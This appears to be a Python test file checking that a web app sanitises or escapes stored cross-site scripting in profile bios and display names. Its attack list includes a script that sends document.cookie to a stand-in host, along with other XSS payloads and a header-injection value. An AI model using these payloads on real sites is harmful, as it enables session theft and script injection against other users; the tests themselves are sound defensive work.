"""Stored XSS: what one user writes is shown to others, so it is cleaned or escaped."""

from tests.helpers import ADA, BOB, auth, user_row

ATTACKS = [
    "<script>fetch('https://evil.test/?c=' + document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">my site</a>',
    "<svg onload=alert(1)></svg>",
    '<iframe src="https://evil.test"></iframe>',
    "<b onclick=alert(1)>bold</b>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<style>body{display:none}</style>",
]
DANGEROUS = ["<script", "onerror", "onload", "onclick", "javascript:", "<iframe", "<svg", "<style"]


def set_bio(client, bio):
    response = client.patch("/me", headers=auth(ADA), json={"bio_html": bio})
    assert response.status_code == 200, response.text
    return response


def test_scripts_and_event_handlers_never_reach_the_profile_page(client):
    for attack in ATTACKS:
        set_bio(client, attack)
        page = client.get(f"/users/{ADA}/profile")
        assert page.status_code == 200
        assert page.headers["content-type"].startswith("text/html")
        for marker in DANGEROUS:
            assert marker not in page.text.lower(), (attack, marker)


def test_the_bio_is_stored_clean(client, db):
    set_bio(client, "<p>Hi <img src=x onerror=alert(1)><script>alert(2)</script></p>")
    stored = user_row(db, ADA)["bio_html"]
    assert "<p>Hi" in stored
    assert "onerror" not in stored and "<script" not in stored and "alert(2)" not in stored


def test_harmless_formatting_and_links_survive(client):
    set_bio(client, '<p><b>Engines</b> and <em>maths</em>: <a href="https://example.com">site</a>')
    page = client.get(f"/users/{ADA}/profile").text
    assert "<b>Engines</b>" in page and "<em>maths</em>" in page
    assert 'href="https://example.com"' in page
    assert 'rel="nofollow noopener noreferrer"' in page


def test_a_display_name_is_shown_as_text(client):
    name = "<script>alert(1)</script> & Co"
    assert client.patch("/me", headers=auth(BOB), json={"display_name": name}).status_code == 200
    page = client.get(f"/users/{BOB}/profile").text
    assert "<script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; Co" in page


def test_control_characters_in_a_display_name_are_rejected(client):
    for name in ("Ada\nSet-Cookie: x=1", "Ada\x00", "A" * 51, ""):
        response = client.patch("/me", headers=auth(ADA), json={"display_name": name})
        assert response.status_code == 422, name
    set_bio(client, "<i>still fine</i>")
